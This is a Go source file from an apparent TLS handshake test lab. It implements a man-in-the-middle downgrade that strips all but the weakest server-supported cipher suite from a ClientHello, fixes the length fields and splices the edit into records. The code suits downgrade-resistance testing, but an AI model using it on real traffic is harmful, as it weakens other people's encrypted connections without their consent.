package attack

import (
	"cmp"
	"encoding/binary"
	"slices"

	"handshakelab/core/iana"
	"handshakelab/core/wire"
)

// Weaken lets the man on the way take all suites but the weakest out of the
// first ClientHello, so that the server chooses that one in good faith. He
// knows which suites the server speaks (anyone can ask it), and picks among
// those: a suite it does not know would only end the handshake at once.
// Signalling values stay, and the lengths around the list follow.
//
// With one suite to choose from there is nothing to weaken, and the hello
// passes as it is.
func (w *Wire) Weaken(serverSuites []uint16) {
	done := false
	w.rewrite = append(w.rewrite, func(from string, m *Message, c wire.Context) (edit, bool) {
		if done || from != "client" || m.Name != "client_hello" {
			return edit{}, false
		}
		done = true
		return weaken(m.Data, serverSuites, c)
	})
}

func weaken(hello []byte, serverSuites []uint16, c wire.Context) (edit, bool) {
	off, n, ok := wire.Locate(hello, c, "cipher_suites")
	if !ok {
		return edit{}, false
	}
	var choice, signals []uint16
	list := hello[off : off+n]
	for ; len(list) >= 2; list = list[2:] {
		code := binary.BigEndian.Uint16(list)
		switch {
		case code == iana.EmptyRenegotiationInfoSCSV || code == iana.FallbackSCSV:
			signals = append(signals, code)
		case slices.Contains(serverSuites, code) && iana.SuiteByCode(code) != nil:
			choice = append(choice, code)
		}
	}
	if len(choice) == 0 {
		return edit{}, false
	}
	var with []byte
	for _, code := range append([]uint16{Weakest(choice)}, signals...) {
		with = binary.BigEndian.AppendUint16(with, code)
	}
	if len(with) == n {
		return edit{}, false
	}
	body := len(hello) - 4 + len(with) - n
	return edit{note: "weaken-ciphers", set: []replacement{
		{1, 3, []byte{byte(body >> 16), byte(body >> 8), byte(body)}},
		{off - 2, 2, binary.BigEndian.AppendUint16(nil, uint16(len(with)))},
		{off, n, with},
	}}, true
}

// Weakest gives the weakest of some suites, the first in the list among
// equals: without forward secrecy before with, CBC before an AEAD, then the
// shorter key, then the shorter MAC. It gives 0 if none is implemented.
func Weakest(suites []uint16) uint16 {
	var known []*iana.Suite
	for _, c := range suites {
		if s := iana.SuiteByCode(c); s != nil {
			known = append(known, s)
		}
	}
	if len(known) == 0 {
		return 0
	}
	return slices.MinFunc(known, func(a, b *iana.Suite) int {
		return cmp.Or(
			cmp.Compare(number(a.KX.ForwardSecret()), number(b.KX.ForwardSecret())),
			cmp.Compare(number(a.AEAD()), number(b.AEAD())),
			cmp.Compare(a.KeyLen, b.KeyLen),
			cmp.Compare(a.MACLen, b.MACLen),
		)
	}).Code
}

func number(b bool) int {
	if b {
		return 1
	}
	return 0
}

// apply carries out an edit on a message that travels in the clear; the
// records' lengths follow.
func (t *target) apply(e edit) {
	first := -1
	for _, r := range e.set {
		for i := range max(r.n, len(r.with)) {
			off := r.off + min(i, r.n)
			for _, run := range t.runs {
				at := off - run.off
				if at < 0 || at >= run.n {
					continue
				}
				if i >= r.n { // longer than what it replaces
					run.it.insert(run.at+at, r.with[i:i+1])
				} else if i < len(r.with) {
					run.it.put(run.at+at, r.with[i])
				} else { // shorter
					run.it.remove(run.at + at)
				}
				if first < 0 {
					first = 0
					run.it.notes = append(run.it.notes, e.note)
				}
			}
		}
	}
}
